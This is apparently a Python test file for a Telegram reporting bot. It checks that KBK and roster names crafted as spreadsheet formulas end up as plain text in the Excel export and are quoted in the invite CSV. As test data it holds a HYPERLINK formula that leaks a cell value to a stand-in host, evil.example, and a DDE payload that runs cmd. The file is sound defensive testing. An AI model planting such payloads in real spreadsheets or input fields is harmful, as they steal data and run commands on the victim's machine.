"""Spreadsheet formula injection: a KBK name or roster name that Excel would run as a formula
reaches the workbook and the invite CSV as plain text (attack 3 of the privacy review)."""

from __future__ import annotations

import asyncio
import csv
import io
from datetime import UTC, date, datetime
from pathlib import Path

import pytest
from openpyxl import load_workbook

from bot.cli import main
from bot.emulator import FakeBotApi
from tests.conftest import RunningBot
from tests.engines import point_cli_at
from tests.org_fixtures import (
    BUDI_ANGGOTA_KOMINFO,
    FITRI_KETUA_KOMINFO,
    RIZKY_AGEN_KOMINFO,
    import_sample_roster,
    registered,
)
from tests.report_fixtures import add_checkin

FRIDAY = datetime(2026, 8, 21, 9, 0, tzinfo=UTC)
HYPERLINK = '=HYPERLINK("http://evil.example/?d="&Ringkasan!B3,"Buka")'
EVIL_NAME = "=cmd|' /C calc'!A0"


async def test_injected_kbk_and_roster_names_open_as_text(
    bot: RunningBot, fake: FakeBotApi
) -> None:
    org = bot.services.org
    await import_sample_roster(org)
    users = await registered(org, fake, FITRI_KETUA_KOMINFO, BUDI_ANGGOTA_KOMINFO,
                             RIZKY_AGEN_KOMINFO)  # fmt: skip
    budi = await org.person_by_nip(BUDI_ANGGOTA_KOMINFO)
    assert budi is not None
    await bot.services.db.execute("UPDATE people SET name = ? WHERE id = ?", (EVIL_NAME, budi.id))
    bot.services.clock.set(FRIDAY)
    fitri = users[FITRI_KETUA_KOMINFO]
    named = await bot.ask(fitri, f"/namakbk {HYPERLINK}")
    assert "evil.example" in named.text  # stored as the name it is
    for nip in (FITRI_KETUA_KOMINFO, BUDI_ANGGOTA_KOMINFO, RIZKY_AGEN_KOMINFO):
        person = await org.person_by_nip(nip)
        assert person is not None
        await add_checkin(bot.services.db, person.id, date(2026, 8, 18),
                          "berakhlak.akuntabel", "sudah")  # fmt: skip

    await bot.ask(fitri, "/laporan")
    chart = await fake.wait_for_message(fitri)
    query = await fake.press_button(fitri, chart, text="📊 Unduh Excel")
    await fake.wait_for_callback_answer(query)
    document = await fake.wait_for_message(fitri)
    assert document.document is not None
    book = load_workbook(io.BytesIO(document.document.data))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    texts = {c.value for c in cells if isinstance(c.value, str)}
    assert HYPERLINK in texts  # the KBK name, on the cover, as text


async def test_roster_name_starting_with_a_formula_is_quoted_in_the_invite_csv(
    bot: RunningBot, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    org = bot.services.org
    await import_sample_roster(org)
    budi = await org.person_by_nip(BUDI_ANGGOTA_KOMINFO)
    assert budi is not None
    await bot.services.db.execute(
        "UPDATE people SET name = ?, position = ? WHERE id = ?",
        (EVIL_NAME, "+SUM(1,1)", budi.id),
    )
    point_cli_at(monkeypatch, bot.services.settings)
    monkeypatch.setenv("BOT_USERNAME", "budaya_test_bot")
    out = tmp_path / "undangan.csv"
    code = await asyncio.to_thread(
        main, ["invite", "--nip", BUDI_ANGGOTA_KOMINFO, "--out", str(out)]
    )
    assert code == 0
    with out.open(encoding="utf-8-sig", newline="") as handle:
        (row,) = list(csv.DictReader(handle, delimiter=";"))
    assert row["nama"] == "'" + EVIL_NAME
    assert row["jabatan"] == "'+SUM(1,1)"
    assert row["tautan"].startswith("https://t.me/budaya_test_bot?start=")
